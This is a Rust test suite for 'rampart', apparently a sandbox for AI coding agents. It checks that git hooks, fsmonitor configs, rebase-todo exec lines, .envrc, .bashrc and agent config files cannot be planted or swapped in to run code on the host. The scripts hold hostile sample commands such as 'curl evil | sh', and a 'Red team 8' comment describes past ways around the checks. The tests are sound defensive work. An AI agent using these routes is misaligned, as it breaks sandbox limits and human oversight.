//! Issue 12, classes 2 and 3: protected paths (git internals, rampart's
//! config and state, agent-config files) stay protected when their parents
//! are renamed, and cannot be created behind rampart's back. Each attack
//! fails with "sandbox breached: …" (or "gate bypassed: …" for the file
//! tools), each next to a control that must keep working.

use std::path::Path;
use std::process::Output;

use serde_json::{json, Value};

use super::fixture::*;

fn read(p: &Path) -> String {
    std::fs::read_to_string(p).unwrap_or_default()
}

#[track_caller]
fn control(o: &Output, what: &str) {
    assert!(
        o.status.success(),
        "control failed: {what} should work (exit {:?}, stdout `{}`, stderr `{}`)",
        o.status.code(),
        stdout(o),
        stderr(o)
    );
}

#[test]
fn protect_workspace_under_tmp_cannot_be_swapped_for_a_git_hook() {
    let w = World::with_config_under(
        Path::new("/tmp"),
        &format!(
            "{}{ALLOW_ALL}",
            BASE_CONFIG.replace("exclude_slash_tmp = true", "exclude_slash_tmp = false")
        ),
    );
    w.git(&w.ws, &["init", "-q"]);
    let hook = w.ws.join(".git/hooks/pre-commit");
    for (what, script) in [
        (
            "renaming the workspace under /tmp and recreating it with a git hook",
            "cd .. && mv ws ws.old; mkdir -p ws/.git/hooks; printf evil > ws/.git/hooks/pre-commit",
        ),
        (
            "renaming .git away and recreating it with a hook",
            "mv .git git.old; mkdir -p .git/hooks; printf evil > .git/hooks/pre-commit",
        ),
        (
            "renaming .git/hooks away",
            "mv .git/hooks .git/h.old; mkdir .git/hooks; printf evil > .git/hooks/pre-commit",
        ),
        (
            "removing the workspace and recreating it",
            "cd .. && rm -rf ws; mkdir -p ws/.git/hooks; printf evil > ws/.git/hooks/pre-commit",
        ),
    ] {
        let o = exec_sh(&w, script);
        breached_if(read(&hook).contains("evil"), what, &o);
        breached_if(
            w.base.join("ws.old").exists() || w.ws.join("git.old").exists(),
            what,
            &o,
        );
    }
    // Control: ordinary work in the workspace and beside it under /tmp.
    let o = exec_sh(
        &w,
        "mkdir a && mv a b && echo hi > b/f && mkdir ../other && mv ../other ../other2",
    );
    control(&o, "renaming ordinary directories");
    assert_eq!(read(&w.ws.join("b/f")), "hi\n");
    assert!(w.base.join("other2").is_dir());
}

#[test]
fn protect_home_workspace_cannot_replace_the_user_config_or_state() {
    let w = World::with_config(BASE_CONFIG);
    // The workspace is $HOME: the user config and the state dir live in it.
    let config = w.ws.join(".config/rampart/config.toml");
    std::fs::create_dir_all(config.parent().unwrap()).unwrap();
    std::fs::write(&config, format!("{BASE_CONFIG}{ALLOW_ALL}")).unwrap();
    std::fs::write(w.ws.join(".bashrc"), "# rc\n").unwrap();
    super::fixture::make_default_deny_paths(&w.ws);
    let run = |script: &str| {
        w.cmd(["exec", "--", "sh", "-c", script])
            .env("HOME", &w.ws)
            .env_remove("XDG_CONFIG_HOME")
            .env_remove("XDG_STATE_HOME")
            .output()
            .unwrap()
    };
    let full = "sandbox_mode = \\\"danger-full-access\\\"";
    let original = read(&config);
    for (what, script) in [
        (
            "renaming ~/.config and writing a new rampart config",
            format!("mv .config .config.old; mkdir -p .config/rampart; echo \"{full}\" > .config/rampart/config.toml"),
        ),
        (
            "renaming ~/.config/rampart and writing a new rampart config",
            format!("mv .config/rampart .config/r.old; mkdir -p .config/rampart; echo \"{full}\" > .config/rampart/config.toml"),
        ),
        (
            "removing ~/.config",
            format!("rm -rf .config; mkdir -p .config/rampart; echo \"{full}\" > .config/rampart/config.toml"),
        ),
        (
            "renaming ~/.local to forge session approvals",
            "mv .local .local.old; mkdir -p .local/state/rampart/sessions; echo '[]' > .local/state/rampart/sessions/x.json".to_owned(),
        ),
        (
            "appending to ~/.bashrc",
            "echo 'curl evil | sh' >> .bashrc; mv .bashrc b.old; echo evil > .bashrc".to_owned(),
        ),
    ] {
        let o = run(&script);
        breached_if(read(&config) != original, what, &o);
        breached_if(
            w.ws.join(".config.old").exists()
                || w.ws.join(".config/r.old").exists()
                || w.ws.join(".local.old").exists()
                || w.ws.join("b.old").exists()
                || read(&w.ws.join(".bashrc")) != "# rc\n",
            what,
            &o,
        );
    }
    let o = run("printf %s \"$RAMPART_SANDBOX\"");
    breached_if(
        stdout(&o) != "workspace-write",
        "the next run's mode changed",
        &o,
    );
    // Control: the rest of ~/.config is the command's to change.
    let o = run(
        "mkdir -p .config/other && mv .config/other .config/other2 && echo ok > .config/other2/f",
    );
    control(&o, "renaming an ordinary directory in ~/.config");
    assert_eq!(read(&w.ws.join(".config/other2/f")), "ok\n");
}

#[test]
fn protect_trusted_project_in_a_writable_root_keeps_its_rampart_toml() {
    let w = World::new();
    let root = w.base.join("root");
    let ws = root.join("proj");
    std::fs::create_dir_all(&ws).unwrap();
    w.set_config(&format!(
        "trusted_projects = [\"{}\"]\n[sandbox_workspace_write]\nwritable_roots = [\"{}\"]\nexclude_slash_tmp = true\nexclude_tmpdir_env_var = true\n[limits]\ntimeout_secs = 60\n{ALLOW_ALL}",
        ws.display(),
        root.display()
    ));
    let toml = ws.join("rampart.toml");
    std::fs::write(&toml, "[limits]\ntimeout_secs = 30\n").unwrap();
    let run = |script: &str| {
        w.cmd(["exec", "--", "sh", "-c", script])
            .current_dir(&ws)
            .output()
            .unwrap()
    };
    let full = "sandbox_mode = \\\"danger-full-access\\\"";
    for (what, script) in [
        (
            "renaming the project inside its writable root and recreating rampart.toml",
            format!("cd .. && mv proj proj.old; mkdir proj; echo \"{full}\" > proj/rampart.toml"),
        ),
        (
            "replacing rampart.toml by rename",
            format!("echo \"{full}\" > x; mv x rampart.toml"),
        ),
        (
            "writing rampart.toml through a hard link",
            format!("ln rampart.toml hl; echo \"{full}\" >> hl"),
        ),
        (
            "writing rampart.toml through a symlink",
            format!("ln -s rampart.toml sl; echo \"{full}\" >> sl"),
        ),
    ] {
        let o = run(&script);
        breached_if(
            read(&toml) != "[limits]\ntimeout_secs = 30\n" || root.join("proj.old").exists(),
            what,
            &o,
        );
    }
    // A trusted project without a rampart.toml: creating one is undone.
    std::fs::remove_file(&toml).unwrap();
    let o = run(&format!("echo \"{full}\" > rampart.toml"));
    breached_if(
        toml.exists(),
        "creating a trusted project's rampart.toml",
        &o,
    );
    assert_eq!(o.status.code(), Some(126), "{}", stderr(&o));
    assert!(stderr(&o).contains("rampart.toml"), "{}", stderr(&o));
    let o = run("printf %s \"$RAMPART_SANDBOX\"");
    breached_if(
        stdout(&o) != "workspace-write",
        "the next run's mode changed",
        &o,
    );
    // Control: the project's other files can be renamed and written.
    let o = run("mkdir d && mv d d2 && echo ok > d2/f && cd .. && mkdir sib && mv sib sib2");
    control(&o, "ordinary renames in a writable root");
    assert!(root.join("sib2").is_dir());
}

#[test]
fn protect_agent_config_files_created_in_the_sandbox_are_quarantined() {
    let w = World::with_config(
        &format!("{BASE_CONFIG}{ALLOW_ALL}")
            .replace("[limits]", "allow_git_writes = \"commits\"\n[limits]"),
    );
    w.git(&w.ws, &["init", "-q"]);
    let o = exec_sh(
        &w,
        "echo '{\"mcpServers\":{}}' > .mcp.json; mkdir -p .claude .vscode; echo '{}' > .claude/settings.json; echo '{}' > .vscode/tasks.json; echo 'curl x|sh' > .envrc; echo /tmp/evil > .git/commondir; ln -s /tmp/evil .gitmodules; echo ok > notes.txt; exit 0",
    );
    for name in [
        ".mcp.json",
        ".claude",
        ".vscode",
        ".envrc",
        ".git/commondir",
        ".gitmodules",
    ] {
        let p = w.ws.join(name);
        breached_if(
            std::fs::symlink_metadata(&p).is_ok(),
            &format!("`{name}` created by the command survived the run"),
            &o,
        );
        assert!(
            stderr(&o).contains(&format!("{}`", p.display())),
            "{name}: {}",
            stderr(&o)
        );
    }
    assert_eq!(o.status.code(), Some(126), "{}", stderr(&o));
    // Nothing is lost: the files wait in the quarantine.
    let q = w.base.join("state/rampart/quarantine");
    let kept: Vec<String> = std::fs::read_dir(&q)
        .unwrap()
        .flatten()
        .filter(|e| e.path().is_dir())
        .flat_map(|d| std::fs::read_dir(d.path()).unwrap().flatten())
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(kept.len(), 6, "{kept:?}");
    // And the audit trail says so.
    let events: Vec<Value> = serde_json::from_str(&stdout(
        &w.run(["audit", "query", "--json", "--limit", "100"]),
    ))
    .unwrap();
    let n = events
        .iter()
        .filter(|e| e.to_string().contains("created during a sandboxed run"))
        .count();
    assert_eq!(n, 6, "{events:?}");
    // Controls: ordinary files stay, a commit works, names that merely
    // look alike are fine.
    assert_eq!(read(&w.ws.join("notes.txt")), "ok\n");
    let o = w.run([
        "exec", "--", "sh", "-c",
        "echo x > .mcp.json.example && mkdir claude && git add notes.txt .mcp.json.example && git -c user.name=t -c user.email=t@example.invalid commit -qm one",
    ]);
    control(&o, "a commit in commits mode");
    assert!(w.ws.join(".mcp.json.example").exists());
}

#[test]
fn protect_a_repository_created_where_there_was_none_is_quarantined() {
    let w = World::new();
    // The workspace is a subdirectory of a repository: git run there later
    // would honour a `.git` made in it.
    let ws = w.ws.join("sub");
    std::fs::create_dir_all(&ws).unwrap();
    w.git(&w.ws, &["init", "-q"]);
    let o = w
        .cmd([
            "exec",
            "--",
            "sh",
            "-c",
            "git init -q && printf '#!/bin/sh\necho evil\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit; echo ok > kept",
        ])
        .current_dir(&ws)
        .output()
        .unwrap();
    breached_if(
        ws.join(".git").exists(),
        "a new repository with a hook in the workspace survived the run",
        &o,
    );
    assert_eq!(o.status.code(), Some(126), "{}", stderr(&o));
    assert_eq!(
        read(&ws.join("kept")),
        "ok\n",
        "control: ordinary files stay"
    );
}

#[test]
fn protect_existing_agent_config_files_resist_links_and_replacement() {
    let w = World::new();
    w.git(&w.ws, &["init", "-q"]);
    std::fs::write(w.ws.join(".mcp.json"), "{}\n").unwrap();
    std::fs::create_dir_all(w.ws.join(".claude")).unwrap();
    std::fs::write(w.ws.join(".claude/settings.json"), "{}\n").unwrap();
    for (what, script) in [
        ("overwriting .mcp.json", "echo evil > .mcp.json"),
        (
            "replacing .mcp.json by rename",
            "echo evil > x; mv -f x .mcp.json",
        ),
        (
            "replacing .mcp.json with a symlink",
            "ln -sf /etc/hostname .mcp.json",
        ),
        (
            "writing .mcp.json through a hard link",
            "ln .mcp.json hl; echo evil >> hl",
        ),
        (
            "renaming .claude away",
            "mv .claude c.old; mkdir .claude; echo evil > .claude/settings.json",
        ),
        (
            "writing a hook through a symlinked dir",
            "ln -s .git/hooks h; echo evil > h/pre-commit",
        ),
    ] {
        let o = exec_sh(&w, script);
        breached_if(
            read(&w.ws.join(".mcp.json")) != "{}\n"
                || read(&w.ws.join(".claude/settings.json")) != "{}\n"
                || w.ws.join("c.old").exists()
                || w.ws.join(".git/hooks/pre-commit").exists(),
            what,
            &o,
        );
    }
    assert!(!std::fs::symlink_metadata(w.ws.join(".mcp.json"))
        .unwrap()
        .file_type()
        .is_symlink());
    // A protected file with another hard link is refused up front.
    std::fs::write(w.ws.join("plain"), "x").unwrap();
    std::fs::hard_link(w.ws.join("plain"), w.ws.join(".envrc")).unwrap();
    let o = exec_sh(&w, "echo evil >> plain");
    breached_if(
        o.status.success() || read(&w.ws.join(".envrc")) != "x",
        "a hard-linked .envrc",
        &o,
    );
    assert!(stderr(&o).contains("hard links"), "{}", stderr(&o));
    std::fs::remove_file(w.ws.join(".envrc")).unwrap();
    let o = exec_sh(&w, "echo more >> plain && cat .mcp.json");
    control(&o, "ordinary writes next to protected files");
}

#[test]
fn protect_a_killed_supervisor_is_caught_at_the_next_start() {
    let w = World::new();
    // The supervisor is stopped before the command creates the file (else
    // it would move it at once), then killed.
    let mut child = w
        .cmd([
            "exec",
            "--",
            "sh",
            "-c",
            "touch started; while [ ! -e go ]; do sleep 0.02; done; echo '{}' > .mcp.json; sleep 30",
        ])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let wait_for = |p: &Path| {
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
        while !p.exists() && std::time::Instant::now() < deadline {
            std::thread::sleep(std::time::Duration::from_millis(20));
        }
        p.exists()
    };
    assert!(wait_for(&w.ws.join("started")), "the command never ran");
    let pid = nix::unistd::Pid::from_raw(i32::try_from(child.id()).unwrap());
    nix::sys::signal::kill(pid, nix::sys::signal::Signal::SIGSTOP).unwrap();
    std::fs::write(w.ws.join("go"), "").unwrap();
    assert!(wait_for(&w.ws.join(".mcp.json")), "the command never wrote");
    child.kill().unwrap();
    child.wait().unwrap();
    let o = exec_sh(&w, "true");
    breached_if(
        w.ws.join(".mcp.json").exists(),
        "`.mcp.json` created by a run whose supervisor was killed survived the next start",
        &o,
    );
    assert!(
        stderr(&o).contains("sandbox breach attempt"),
        "{}",
        stderr(&o)
    );
}

// ------------------------------------------------------------ file tools

use super::fixture::hook_call as hook_decision;

#[test]
fn protect_hook_refuses_agent_config_writes_and_names_the_file() {
    let w = World::with_config(BASE_CONFIG);
    w.git(&w.ws, &["init", "-q"]);
    let p = |rel: &str| w.ws.join(rel).display().to_string();
    let cases = [
        (
            "Write",
            json!({"file_path": p(".mcp.json"), "content": "{}"}),
            ".mcp.json",
        ),
        (
            "Edit",
            json!({"file_path": p(".claude/settings.json"), "old_string": "a", "new_string": "b"}),
            ".claude/settings.json",
        ),
        (
            "MultiEdit",
            json!({"file_path": p(".vscode/tasks.json"), "edits": [{"old_string": "a", "new_string": "b"}]}),
            ".vscode/tasks.json",
        ),
        (
            "NotebookEdit",
            json!({"notebook_path": p(".git/hooks/post-checkout"), "new_source": "x"}),
            ".git/hooks/post-checkout",
        ),
        (
            "Write",
            json!({"file_path": p("rampart.toml"), "content": "sandbox_mode = \"danger-full-access\""}),
            "rampart.toml",
        ),
        (
            "Write",
            json!({"file_path": p("sub/.envrc"), "content": "x"}),
            "sub/.envrc",
        ),
        (
            "Write",
            json!({"file_path": w.base.join("xdg/rampart/config.toml").display().to_string(), "content": "x"}),
            "xdg/rampart",
        ),
        (
            "Write",
            json!({"file_path": w.home.join(".bashrc").display().to_string(), "content": "x"}),
            ".bashrc",
        ),
    ];
    for (tool, input, needle) in cases {
        let (decision, reason) = hook_decision(&w, tool, &input);
        assert!(
            decision == "deny" && reason.contains(needle) && reason.contains("protected"),
            "gate bypassed: {tool} of `{needle}` got `{decision}`: {reason}"
        );
    }
    // Control: an ordinary file is still written.
    let (decision, reason) = hook_decision(
        &w,
        "Write",
        &json!({"file_path": p("src/lib.rs"), "content": "x"}),
    );
    assert_eq!(decision, "allow", "control failed: {reason}");
}

#[test]
fn protect_project_config_can_add_but_not_remove_entries() {
    let w = World::with_config(BASE_CONFIG);
    std::fs::write(
        w.ws.join("rampart.toml"),
        "[filesystem]\nprotect = [\"deploy/*.sh\"]\n",
    )
    .unwrap();
    let p = |rel: &str| w.ws.join(rel).display().to_string();
    let (decision, reason) = hook_decision(
        &w,
        "Write",
        &json!({"file_path": p("deploy/run.sh"), "content": "x"}),
    );
    assert!(
        decision == "deny" && reason.contains("deploy/*.sh"),
        "gate bypassed: a project's protect entry was ignored: {decision}: {reason}"
    );
    std::fs::write(
        w.ws.join("rampart.toml"),
        "[filesystem]\nunprotect = [\"**/.mcp.json\"]\n",
    )
    .unwrap();
    let o = w.run(["check", "--", "true"]);
    assert_ne!(
        o.status.code(),
        Some(0),
        "gate bypassed: a project removed a protected entry"
    );
    assert!(
        stderr(&o).contains("cannot remove protected paths"),
        "{}",
        stderr(&o)
    );
    // The user config may, and doctor shows what is in force.
    std::fs::remove_file(w.ws.join("rampart.toml")).unwrap();
    w.set_config(&format!(
        "{BASE_CONFIG}[filesystem]\nunprotect = [\"**/.idea/**\"]\n"
    ));
    let o = w.run(["doctor", "--json", "--no-trial"]);
    let v: Value = serde_json::from_slice(&o.stdout).unwrap();
    let listed: Vec<&str> = v["config"]["protected"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["pattern"].as_str().unwrap())
        .collect();
    assert!(
        listed.contains(&"**/.mcp.json") && !listed.contains(&"**/.idea/**"),
        "{listed:?}"
    );
    let (decision, _) = hook_decision(
        &w,
        "Write",
        &json!({"file_path": p(".idea/workspace.xml"), "content": "x"}),
    );
    assert_eq!(decision, "allow");
}

#[test]
fn protect_mcp_write_file_refuses_agent_config_files() {
    use std::io::{BufRead, BufReader, Write};
    let w = World::with_config(BASE_CONFIG);
    let mut child = w
        .cmd(["mcp", "-C"])
        .arg(&w.ws)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    let mut lines = BufReader::new(child.stdout.take().unwrap()).lines();
    let mut send = |v: Value| {
        writeln!(stdin, "{v}").unwrap();
        stdin.flush().unwrap();
    };
    send(
        json!({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {
        "protocolVersion": "2025-03-26", "capabilities": {}, "clientInfo": {"name": "t", "version": "1"}}}),
    );
    let _ = lines.next();
    send(json!({"jsonrpc": "2.0", "method": "notifications/initialized"}));
    let mut call = |id: u64, name: &str, arguments: Value| -> Value {
        send(
            json!({"jsonrpc": "2.0", "id": id, "method": "tools/call", "params": {
            "name": name, "arguments": arguments}}),
        );
        loop {
            let line = lines.next().unwrap().unwrap();
            let v: Value = serde_json::from_str(&line).unwrap();
            if v["id"] == id {
                return v;
            }
        }
    };
    for (id, path) in [
        (2, ".mcp.json"),
        (3, ".claude/settings.json"),
        (4, ".vscode/settings.json"),
    ] {
        let r = call(
            id,
            "write_file",
            json!({"path": path, "content": "{\"mcpServers\":{}}"}),
        );
        assert!(
            r["result"]["isError"] == true && !w.ws.join(path).exists(),
            "gate bypassed: MCP write_file wrote `{path}`: {r}"
        );
        assert!(r.to_string().contains("protected"), "{r}");
    }
    let r = call(
        5,
        "write_file",
        json!({"path": "notes.txt", "content": "x"}),
    );
    assert!(r["result"]["isError"] != true, "control failed: {r}");
    assert!(w.ws.join("notes.txt").exists());
    // run_command goes through `sandbox-run`: what it creates is quarantined
    // and recorded.
    let r = call(
        6,
        "run_command",
        json!({"command": "echo '{}' > .mcp.json; echo ok > run.txt"}),
    );
    assert!(
        !w.ws.join(".mcp.json").exists(),
        "sandbox breached: MCP run_command created `.mcp.json`: {r}"
    );
    assert!(w.ws.join("run.txt").exists(), "control failed: {r}");
    // A bare repository left by an earlier run (harmless without a
    // config): its config is git internals for write_file too.
    std::fs::create_dir_all(w.ws.join("store/objects")).unwrap();
    std::fs::create_dir_all(w.ws.join("store/refs")).unwrap();
    std::fs::write(w.ws.join("store/HEAD"), "ref: refs/heads/main\n").unwrap();
    let r = call(
        7,
        "write_file",
        json!({"path": "store/config", "content": "[core]\n\tfsmonitor = true\n"}),
    );
    assert!(
        r["result"]["isError"] == true && !w.ws.join("store/config").exists(),
        "gate bypassed: MCP write_file wrote the config of a bare repository: {r}"
    );
    // And run_command leaves no repository whose config runs a program.
    let r = call(
        8,
        "run_command",
        json!({"command": "mkdir -p a/b/c/d && cd a/b/c/d && git init -q && git config core.fsmonitor true"}),
    );
    assert!(
        !read(&w.ws.join("a/b/c/d/.git/config")).contains("fsmonitor"),
        "sandbox breached: MCP run_command left a repository with an fsmonitor: {r}"
    );
    let q = w.run(["audit", "query", "--json", "--limit", "1000"]);
    assert!(
        stdout(&q).contains("created during a sandboxed run"),
        "{}",
        stdout(&q)
    );
    drop(stdin);
    let _ = child.kill();
    let _ = child.wait();
}

/// A protected path the command creates is moved away while the command
/// still runs, not only after it: a host program running at the same time
/// (a shell prompt's `git status`, direnv, an editor) must not find it.
#[test]
fn protect_a_created_agent_config_file_is_moved_while_the_command_runs() {
    let w = World::with_config(&format!("{BASE_CONFIG}{ALLOW_ALL}"));
    w.git(&w.ws, &["init", "-q"]);
    let o = exec_sh(
        &w,
        "mkdir -p .cargo && echo 'x' > .cargo/config.toml && echo 'curl x|sh' > .envrc; \
         i=0; while [ $i -lt 100 ]; do \
           if [ ! -e .envrc ] && [ ! -e .cargo/config.toml ]; then echo gone; exit 0; fi; \
           sleep 0.05; i=$((i+1)); done; echo stayed",
    );
    breached_if(
        !stdout(&o).contains("gone"),
        "`.envrc` and `.cargo/config.toml` stayed in place while the command ran (host tools could read them)",
        &o,
    );
    assert_eq!(o.status.code(), Some(126), "{}", stderr(&o));
    assert!(stderr(&o).contains(".envrc`"), "{}", stderr(&o));
    // Control: ordinary files made the same way stay.
    let o = exec_sh(&w, "mkdir -p tools && echo x > tools/config.toml && echo y > envrc && sleep 0.3 && cat tools/config.toml envrc");
    control(&o, "ordinary files next to the watched names");
    assert_eq!(stdout(&o), "x\ny\n");
}

/// In `"commits"` mode the command may write `.git`, so it could leave
/// `exec` lines in the todo list of a stopped rebase that git would run on
/// the host at `git rebase --continue`.
#[test]
fn protect_exec_lines_left_in_a_rebase_todo_are_quarantined() {
    let w = World::with_config(
        &format!("{BASE_CONFIG}{ALLOW_ALL}")
            .replace("[limits]", "allow_git_writes = \"commits\"\n[limits]"),
    );
    w.git(&w.ws, &["init", "-q"]);
    for name in ["a", "b", "c"] {
        std::fs::write(w.ws.join(name), name).unwrap();
        w.git(&w.ws, &["add", name]);
        w.git(&w.ws, &["commit", "-qm", name]);
    }
    let host_git = |args: &[&str]| {
        std::process::Command::new("git")
            .args(["-c", "user.name=t", "-c", "user.email=t@example.invalid"])
            .args(args)
            .current_dir(&w.ws)
            .env("HOME", &w.home)
            .env("GIT_EDITOR", "true")
            .env("GIT_SEQUENCE_EDITOR", "sed -i '1i break'")
            .output()
            .unwrap()
    };
    // The user stopped a rebase; the agent works in the middle of it.
    assert!(host_git(&["rebase", "-q", "-i", "HEAD~2"]).status.success());
    let marker = w.base.join("ran-on-the-host");
    let o = exec_sh(
        &w,
        &format!(
            "echo 'exec touch {}' >> .git/rebase-merge/git-rebase-todo; exit 0",
            marker.display()
        ),
    );
    // The user continues what looks like their rebase.
    let _ = host_git(&["rebase", "--continue"]);
    breached_if(
        marker.exists(),
        "an `exec` line the command left in `.git/rebase-merge/git-rebase-todo` ran on the host at `git rebase --continue`",
        &o,
    );
    assert_eq!(o.status.code(), Some(126), "{}", stderr(&o));
    assert!(stderr(&o).contains("--continue"), "{}", stderr(&o));
    assert!(stderr(&o).contains("`git switch main`"), "{}", stderr(&o));
    assert!(host_git(&["switch", "-q", "main"]).status.success());
    // A todo list the command writes from scratch is caught the same way.
    let o = exec_sh(
        &w,
        &format!(
            "mkdir -p .git/rebase-merge && printf 'x touch {}\\n' > .git/rebase-merge/git-rebase-todo; exit 0",
            marker.display()
        ),
    );
    breached_if(
        w.ws.join(".git/rebase-merge").exists(),
        "a rebase todo list with `x` written by the command survived the run",
        &o,
    );
    assert_eq!(o.status.code(), Some(126), "{}", stderr(&o));
    // Control: a stopped rebase the command works in (a commit, no new
    // program) survives the run, and the user can finish it.
    assert!(host_git(&["rebase", "-q", "-i", "HEAD~2"]).status.success());
    let o = exec_sh(
        &w,
        "echo fixed > a && git add a && git -c user.name=t -c user.email=t@example.invalid commit -qm fix",
    );
    control(
        &o,
        "a commit in the middle of a stopped rebase in commits mode",
    );
    assert!(w.ws.join(".git/rebase-merge").is_dir(), "{}", stderr(&o));
    let done = host_git(&["rebase", "--continue"]);
    assert!(
        done.status.success(),
        "{}",
        String::from_utf8_lossy(&done.stderr)
    );
    assert!(!marker.exists());
}

/// `$TMPDIR` is writable by default: one that is `/`, a system directory or
/// holds `$HOME` (a harness that passes on an agent's environment) would
/// make all of it writable. rampart refuses such a run.
#[test]
fn protect_a_tmpdir_at_the_root_or_above_home_is_refused() {
    let w = World::with_config(&format!("{BASE_CONFIG}{ALLOW_ALL}").replace(
        "exclude_tmpdir_env_var = true",
        "exclude_tmpdir_env_var = false",
    ));
    let victim = w.home.join("planted-by-the-command");
    let o = w
        .cmd([
            "exec",
            "--",
            "sh",
            "-c",
            &format!("echo x > '{}'", victim.display()),
        ])
        .env("TMPDIR", &w.base)
        .output()
        .unwrap();
    breached_if(
        victim.exists(),
        "a TMPDIR above $HOME made the home writable",
        &o,
    );
    assert_eq!(o.status.code(), Some(125), "{}", stderr(&o));
    assert!(stderr(&o).contains("your home directory"), "{}", stderr(&o));
    for root in [
        "/",
        "/etc",
        "/usr",
        "/usr/local/bin",
        "/etc/ssh",
        "/var/lib",
    ] {
        let o = w
            .cmd(["exec", "--", "true"])
            .env("TMPDIR", root)
            .output()
            .unwrap();
        assert_eq!(o.status.code(), Some(125), "TMPDIR={root}: {}", stderr(&o));
    }
    // Control: a TMPDIR of its own is writable.
    let own = w.home.join("tmp");
    std::fs::create_dir_all(&own).unwrap();
    let o = w
        .cmd(["exec", "--", "sh", "-c", "echo x > \"$TMPDIR/f\""])
        .env("TMPDIR", &own)
        .output()
        .unwrap();
    control(&o, "writing in a TMPDIR of its own");
    assert!(own.join("f").exists());
}

/// Agent-config names below the top: a `sub/.git` with an fsmonitor runs
/// when the user runs git in `sub`, a `sub/.envrc` when their shell enters
/// it. What the command makes there is quarantined after the run (of a new
/// repository, the config that names a program); what was there before is
/// left alone.
#[test]
fn protect_agent_config_created_in_a_subfolder_is_quarantined() {
    let w = World::with_config(&format!("{BASE_CONFIG}{ALLOW_ALL}"));
    w.git(&w.ws, &["init", "-q"]);
    std::fs::create_dir_all(w.ws.join("old")).unwrap();
    std::fs::write(w.ws.join("old/.envrc"), "export A=1\n").unwrap();
    let marker = w.base.join("ran-on-the-host");
    let o = exec_sh(
        &w,
        &format!(
            "mkdir -p sub/deeper && cd sub && git init -q && git config core.fsmonitor 'touch {m}; false' && echo 'curl x|sh' > deeper/.envrc && echo kept > notes.txt; exit 0",
            m = marker.display()
        ),
    );
    let _ = std::process::Command::new("git")
        .args(["status", "--short"])
        .current_dir(w.ws.join("sub"))
        .env("HOME", &w.home)
        .output();
    breached_if(
        marker.exists(),
        "host git in a subfolder ran the fsmonitor of a repository the command made there",
        &o,
    );
    breached_if(
        read(&w.ws.join("sub/.git/config")).contains("fsmonitor")
            || w.ws.join("sub/deeper/.envrc").exists(),
        "agent-config files made in a subfolder survived the run",
        &o,
    );
    assert_eq!(o.status.code(), Some(126), "{}", stderr(&o));
    // Controls: ordinary files stay, and what was there before the run.
    assert_eq!(read(&w.ws.join("sub/notes.txt")), "kept\n");
    assert_eq!(read(&w.ws.join("old/.envrc")), "export A=1\n");
    let o = exec_sh(&w, "echo more >> old/notes && cat old/.envrc");
    control(&o, "ordinary writes beside an existing nested .envrc");
}

/// Red team 8: the check for what a command leaves below the workspace had
/// a depth (3), a skip list (`node_modules`, `target`, `.venv`, `.cache`),
/// a bound (4,096 folders) and looked for `.git` by name; each was walked
/// around, and a bare repository (`HEAD`, `objects/`, `refs/`, no `.git`)
/// was never looked for. Every place below a writable root is checked now,
/// git directories are found by structure, and a config that names a
/// program (or a hook) made during the run is quarantined.
#[test]
fn protect_git_directories_left_anywhere_below_cannot_run_code_on_the_host() {
    let w = World::with_config(&format!("{BASE_CONFIG}{ALLOW_ALL}"));
    w.git(&w.ws, &["init", "-q"]);
    let marker = w.base.join("ran-on-the-host");
    let fsmonitor = format!(
        "git config core.fsmonitor 'touch {}; false'",
        marker.display()
    );
    let places = [
        "a/b/c/d/e/f",
        "node_modules/pkg",
        "target/debug/build/x",
        ".venv/lib",
        ".cache/y",
        "w/x/y",
    ];
    let mut script: Vec<String> = vec!["mkdir -p f && (cd f && seq 1 5000 | xargs mkdir)".into()];
    for p in places {
        script.push(format!(
            "mkdir -p {p} && (cd {p} && git init -q && {fsmonitor})"
        ));
    }
    script.push(format!(
        "git init -q --bare store && (cd store && {fsmonitor})"
    ));
    script.push(format!(
        "mkdir hooked && cd hooked && git init -q && printf '#!/bin/sh\\ntouch {}\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
        marker.display()
    ));
    let script = script.join(" && ");
    let o = exec_sh(&w, &script);
    for p in places.iter().chain(&["store"]) {
        host_git(&w, &w.ws.join(p), false);
        breached_if(
            marker.exists(),
            &format!(
                "host git in `{p}` ran the fsmonitor of a git directory the command left there"
            ),
            &o,
        );
    }
    host_git(&w, &w.ws.join("hooked"), true);
    breached_if(
        marker.exists(),
        "host git ran a hook the command wrote in a repository it made",
        &o,
    );
    assert_eq!(o.status.code(), Some(126), "{}", stderr(&o));
    assert!(stderr(&o).contains("core.fsmonitor"), "{}", stderr(&o));
}

/// Control: ordinary git use below the workspace (a clone's config, a
/// bare remote, commits in a nested repository) is left alone, and the
/// `.vscode/` and `.husky/` folders packages publish into `node_modules`
/// are moved aside quietly (no package manager runs them), not reported as
/// a breach.
#[test]
fn protect_ordinary_git_use_below_the_workspace_is_left_alone() {
    let w = World::with_config(&format!("{BASE_CONFIG}{ALLOW_ALL}"));
    w.git(&w.ws, &["init", "-q"]);
    let o = exec_sh(
        &w,
        "git init -q --bare --initial-branch=main remotes/r.git && mkdir -p deep/a/b/c/d && cd deep/a/b/c/d && git init -q && git remote add origin ../../../../../remotes/r.git && git config user.name u && git config user.email u@x && git config branch.main.merge refs/heads/main && git commit -q --allow-empty -m first && git push -q origin HEAD:main && git config core.worktree \"$PWD\" && cd - >/dev/null && mkdir -p node_modules/pkg/.vscode node_modules/pkg/.husky && echo '{}' > node_modules/pkg/.vscode/settings.json && echo 'npm test' > node_modules/pkg/.husky/pre-commit",
    );
    control(
        &o,
        "cloning, committing and pushing between nested repositories, and a package that ships editor folders",
    );
    // What packages ship is moved aside quietly: no breach, exit 0.
    assert!(
        !w.ws.join("node_modules/pkg/.vscode").exists() && stderr(&o).contains("moved aside"),
        "{}",
        stderr(&o)
    );
    assert!(!stderr(&o).contains("breach"), "{}", stderr(&o));
    let config = read(&w.ws.join("deep/a/b/c/d/.git/config"));
    assert!(config.contains("remotes/r.git"), "{config}");
    // A `core.worktree` inside the writable places (as a submodule's
    // names its checkout) passes.
